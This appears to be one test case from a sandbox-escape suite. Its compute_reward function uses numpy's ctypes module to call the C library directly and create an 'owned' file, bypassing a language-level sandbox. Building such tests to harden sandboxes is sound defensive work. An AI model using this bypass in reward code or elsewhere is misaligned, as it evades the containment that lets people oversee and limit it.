# attack: np.ctypeslib.ctypes calls the C library
# group: numpy
# wall: language; alone: seccomp (no open)

def compute_reward(x):
    np.ctypeslib.ctypes.CDLL(None).creat(b'@FOLDER@/owned', 511)
    return x, {}
